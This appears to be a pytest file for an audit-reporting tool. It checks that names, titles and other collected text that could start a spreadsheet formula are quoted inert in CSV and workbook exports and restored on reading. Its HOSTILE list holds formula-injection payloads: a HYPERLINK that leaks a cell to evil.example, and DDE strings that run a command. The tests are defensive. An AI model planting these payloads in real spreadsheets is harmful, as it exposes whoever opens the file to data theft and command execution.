"""Spreadsheet formula injection: collected text (a pull request title, a roster name, an incident title) that
starts with = + - @, tab or carriage return is written inert to every CSV and workbook a person opens, and
reads back exactly (auditbook.cells, catalog.read_csv). The whole-run checks are in test_injection_run.py."""

from __future__ import annotations

import csv
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pandas as pd
import pytest
from auditbook import catalog, cells
from auditbook.notebook import TestingRun, _write_csv
from auditbook.package import write_exceptions_csv

# OWASP's examples and every trigger character, plus text that starts with the quote itself (kept reversible).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'quoted",
    "''twice",
    "'=already quoted",
    "=",
    "-",
]
HARMLESS = ["Alice Ng", "", "a=b", "x+y", "2026-Q3", "O'Brien", " =leading space"]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_could_start_a_formula_gets_a_leading_quote_and_comes_back(value):
    written = cells.neutralise(value)
    assert written == "'" + value
    assert cells.restore(written) == value


@pytest.mark.parametrize("value", [*HARMLESS, -2, -2.5, 0, True, None, pd.Timestamp("2026-07-01", tz="UTC")])
def test_other_values_and_numbers_are_untouched(value):
    assert cells.neutralise(value) is value or cells.neutralise(value) == value
    assert cells.restore(value) == value


def roster(names: list[str]) -> pd.DataFrame:
    return catalog.from_rows("hr-roster", [
        {"person_id": f"P{i:03}", "name": name, "email": f"p{i}@demo.example", "github_login": name,
         "aws_user_names": "", "start_date": "2024-01-01", "manager": "-1"}
        for i, name in enumerate(names, 1)])


def raw_cells(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_a_population_csv_is_written_inert_and_reads_back_exactly(tmp_path):
    frame = roster(HOSTILE + HARMLESS)
    path = tmp_path / "populations" / "hr-roster.csv"
    _write_csv(frame, path)
    for row, value in zip(raw_cells(path), HOSTILE + HARMLESS, strict=True):
        assert row["name"] == cells.neutralise(value) and row["github_login"] == cells.neutralise(value)
        assert not row["name"].startswith(cells.FORMULA_TRIGGERS)
        assert row["manager"] == "'-1"
    back = catalog.read_csv("hr-roster", path)
    pd.testing.assert_frame_equal(back, frame)
    assert frame["name"].tolist() == HOSTILE + HARMLESS  # the frame written is not changed in place


def test_numbers_stay_numbers_in_the_csv(tmp_path):
    frame = catalog.from_rows("cloudwatch-log-groups", [{"log_group": "-/weird", "retention_days": -1}])
    path = tmp_path / "groups.csv"
    _write_csv(frame, path)
    row = raw_cells(path)[0]
    assert row["retention_days"] == "-1" and row["log_group"] == "'-/weird"
    pd.testing.assert_frame_equal(catalog.read_csv("cloudwatch-log-groups", path), frame, check_dtype=False)


def test_exceptions_csv_is_written_inert(tmp_path):
    path = tmp_path / "exceptions.csv"
    write_exceptions_csv(path, [{"criterion": "CC8.1", "test_id": "CC8.1-APPROVED", "resource_type": "pull_request",
                                 "resource_id": "=1+1", "detail": "@SUM(A1)", "status": "open"}])
    row = raw_cells(path)[0]
    assert (row["resource_id"], row["detail"], row["test_id"]) == ("'=1+1", "'@SUM(A1)", "CC8.1-APPROVED")


def test_the_reviewers_workbook_holds_text_never_a_formula(tmp_path):
    """openpyxl stores a string that starts with = as a formula; the worksheet's cells must all be text."""
    (tmp_path / "populations").mkdir()
    frame = roster(HOSTILE + HARMLESS)
    pop = SimpleNamespace(name="hr-roster", frame=frame)
    TestingRun.export_xlsx(SimpleNamespace(run_dir=tmp_path), pop)
    sheet = openpyxl.load_workbook(tmp_path / "populations" / "hr-roster.xlsx").active
    header = [c.value for c in sheet[1]]
    names = [row[header.index("name")] for row in sheet.iter_rows(min_row=2)]
    # XML reads a carriage return as a line feed: the workbook format's own limit, not the neutralisation's
    assert [c.value for c in names] == [(cells.neutralise(v) or None) and cells.neutralise(v).replace("\r", "\n")
                                        for v in HOSTILE + HARMLESS]
    assert {c.data_type for c in names if c.value is not None} == {"s"}
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert frame["name"].tolist() == HOSTILE + HARMLESS


def test_control_characters_xml_forbids_are_written_visibly_to_the_workbook(tmp_path):
    """openpyxl refuses a cell holding \\x01 (XML 1.0 forbids it): a hostile value must not stop the run."""
    (tmp_path / "populations").mkdir()
    values = ["bell\x07here", "=x\x01", "tab\tand newline\n are fine"]
    TestingRun.export_xlsx(SimpleNamespace(run_dir=tmp_path), SimpleNamespace(name="hr-roster", frame=roster(values)))
    sheet = openpyxl.load_workbook(tmp_path / "populations" / "hr-roster.xlsx").active
    header = [c.value for c in sheet[1]]
    assert [row[header.index("name")].value for row in sheet.iter_rows(min_row=2)] == [
        "bell\\x07here", "'=x\\x01", "tab\tand newline\n are fine"]


def test_every_reader_of_a_package_csv_takes_the_quote_off(tmp_path):
    """explore (the analyst), trends (deviations across runs) and the previous review's worksheet read a
    package's CSVs: each sees the value that was collected, not its inert spelling."""
    from auditbook import explore, trends
    from auditbook.provenance import RawStore
    from auditbook.sources.files import load_previous_worksheet

    (tmp_path / "populations").mkdir()
    _write_csv(roster(["=Eve", "'quoted"]), tmp_path / "populations" / "hr-roster.csv")
    write_exceptions_csv(tmp_path / "exceptions.csv", [{"criterion": "CC8.1", "test_id": "CC8.1-APPROVED",
                                                         "resource_type": "pull_request", "resource_id": "=1+1",
                                                         "detail": "-x", "status": "open"}])
    package = explore.Package(tmp_path)
    assert package.population("hr-roster")["name"].tolist() == ["=Eve", "'quoted"]
    assert package.exceptions[["resource_id", "detail"]].values.tolist() == [["=1+1", "-x"]]
    assert trends._deviations(tmp_path / "exceptions.csv") == {("CC8.1-APPROVED", "=1+1")}

    sheet = pd.DataFrame({"line": ["aws-iam:1:eve"], "person": ["=Eve"], "privileges": ["+admin"],
                          "admin": [True]})
    _write_csv(sheet, tmp_path / "worksheet.csv")
    previous = load_previous_worksheet(tmp_path / "worksheet.csv", RawStore(tmp_path / "raw")).frame
    assert previous[["person", "privileges"]].values.tolist() == [["=Eve", "+admin"]]
